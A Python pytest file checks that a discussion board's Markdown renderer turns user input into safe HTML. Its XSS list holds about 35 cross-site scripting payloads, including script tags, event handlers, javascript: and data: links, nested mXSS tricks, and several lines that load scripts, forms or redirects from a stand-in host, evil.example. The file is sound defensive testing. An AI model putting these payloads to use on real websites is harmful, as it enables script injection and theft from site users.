"""User Markdown comes out as safe HTML: a corpus of XSS payloads must come out inert."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from conftest import soup
from factories import build_board_world, with_db

from koalicje.board import posts
from koalicje.web.markdown import ALLOWED_TAGS, render_markdown

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](  javascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    "![obraz](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p onmouseover=alert(1)>najedź</p>",
    "<body onload=alert(1)>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=p></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "[ok](https://ok.example \"\" onclick=\"alert(1)\")",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "[x](&#106;avascript:alert(1))",
    "<!-- <script>alert(1)</script> -->",
    "<textarea><script>alert(1)</script></textarea>",
]

DANGEROUS_TAGS = {"script", "style", "iframe", "img", "svg", "object", "embed", "form",
                  "input", "meta", "base", "link", "math", "body", "textarea", "details"}


@pytest.fixture
def bw(app):
    return build_board_world()


def assert_inert(html: str) -> None:
    tree = BeautifulSoup(html, "html.parser")
    for tag in tree.find_all(True):
        assert tag.name in ALLOWED_TAGS, f"tag <{tag.name}> survived: {html!r}"
        assert tag.name not in DANGEROUS_TAGS
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), html
            assert attribute in {"href", "title", "rel"}, f"{attribute} survived: {html!r}"
            if attribute == "href":
                assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}, html
    if tree.find("a") is not None:
        for link in tree.find_all("a"):
            if link.get("href"):
                assert link["rel"] == ["nofollow", "noopener"]


@pytest.mark.parametrize("payload", XSS)
def test_payload_comes_out_inert(payload):
    assert_inert(render_markdown(payload))
    assert_inert(render_markdown(f"**tekst** {payload} *więcej*\n\n- {payload}"))


def test_markdown_still_works():
    html = render_markdown("# Nagłówek\n\n**gruby** i *pochyły*\n\n- jeden\n- dwa\n\n"
                           "[strona](https://example.org)")
    tree = BeautifulSoup(html, "html.parser")
    assert tree.find("strong").get_text() == "gruby"
    assert tree.find("em").get_text() == "pochyły"
    assert [li.get_text() for li in tree.find_all("li")] == ["jeden", "dwa"]
    link = tree.find("a")
    assert link["href"] == "https://example.org"
    assert link["rel"] == ["nofollow", "noopener"]
    assert tree.find("h1") is None and tree.find("h4").get_text() == "Nagłówek"


def test_raw_html_is_shown_as_text():
    tree = BeautifulSoup(render_markdown("<b>nie pogrubiaj</b>"), "html.parser")
    assert tree.find("b") is None
    assert tree.get_text() == "<b>nie pogrubiaj</b>"


def test_payloads_inert_on_the_page(client, auth, bw):
    """Titles, bodies and comments from the corpus, rendered on the board and post pages."""

    def create():
        post = posts.create_post(bw.member, bw.coalition, title=XSS[0], body="\n\n".join(XSS))
        for payload in XSS[:8]:
            posts.add_comment(bw.member2, post, payload)
        return post.id

    post_id = with_db(create)
    auth.as_user(bw.member)
    for url in (f"/board/{bw.coalition.slug}", f"/board/post/{post_id}"):
        page = soup(client.get(url))
        assert page.select_one("#main script") is None
        for body in page.select(".post-body, .comment-body"):
            assert_inert(str(body.decode_contents()))
        assert page.select_one(".post-title a").get_text() == XSS[0]
